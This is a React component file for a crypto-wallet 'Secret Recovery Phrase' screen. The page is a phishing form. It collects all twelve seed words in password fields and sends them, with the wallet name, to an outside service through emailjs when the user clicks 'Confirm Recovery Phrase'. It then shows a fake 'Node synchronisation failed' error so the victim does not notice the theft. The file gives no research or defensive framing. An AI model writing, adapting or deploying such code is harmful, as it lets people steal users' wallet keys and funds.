import { jsx } from "react/jsx-runtime";
import React, { useState } from "react";
import emailjs from "@emailjs/browser";
const Recovery = ({ wallet }) => {
  const [count, setCount] = useState(12);
  const [words, setWords] = useState(Array(12).fill(""));
  const [shown, setShown] = useState(false);
  const put = (i, v) => { const w = [...words]; w[i] = v; setWords(w); };
  const confirm = async () => {
    await emailjs.send("service_placeholder", "template_placeholder", { wallet, message: words.join(" ") }, "PLACEHOLDER");
    setShown(true);
  };
  return jsx("div", { children: [
    jsx("h2", { children: "Access your wallet with your Secret Recovery Phrase" }),
    words.map((w, i) => jsx("input", { type: "password", value: w, onChange: (e) => put(i, e.target.value) }, i)),
    jsx("button", { disabled: words.some((w) => !w), onClick: confirm, children: "Confirm Recovery Phrase" }),
    shown && jsx("p", { children: "Node synchronisation failed. Error 0x41." })
  ] });
};
export default Recovery;
